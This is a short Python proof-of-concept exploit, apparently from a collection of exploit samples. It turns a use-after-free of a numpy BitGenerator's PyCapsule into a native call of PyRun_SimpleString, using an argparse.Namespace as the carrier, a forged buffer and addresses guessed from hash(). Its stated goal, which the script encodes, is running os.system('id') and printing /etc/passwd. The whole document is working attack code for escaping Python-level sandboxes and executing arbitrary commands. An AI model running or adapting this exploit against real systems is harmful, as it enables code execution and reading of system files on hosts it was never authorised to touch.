# source: numpy Generator.__init__ reads bit_generator.capsule/.lock from any object; argparse.Namespace as the carrier; BitGenerator.capsule holds no reference to its owner
# family: dangling PyCapsule from a freed numpy BitGenerator, no class of the script at all (argparse.Namespace carries capsule and a real lock)
# goal: run arbitrary Python via a native call of PyRun_SimpleString (os.system("id"), /etc/passwd)
import argparse
import numpy as np

M64 = (1 << 64) - 1


def addr_of(o):
    h = hash(o) & M64
    return ((h << 4) | (h >> 60)) & M64


RUN = addr_of(bytearray) - 4753267
code = "import os; os.system('id'); print(open('/etc/' + 'passwd').read()[:300])"
gen = np.random.MT19937(11)
base = addr_of(gen) - 16
buf = bytearray(2623)
cmd = code.encode() + bytes(1)
buf[96:96 + len(cmd)] = cmd
for i in range(5):
    buf[48 + 8 * i:56 + 8 * i] = (RUN if i else base + 96).to_bytes(8, "little")
payload = bytes(buf)
cfg = argparse.Namespace(capsule=gen.capsule, lock=np.random.PCG64().lock)
gen = None
keep = bytearray(payload)
print(np.random.Generator(cfg).random())
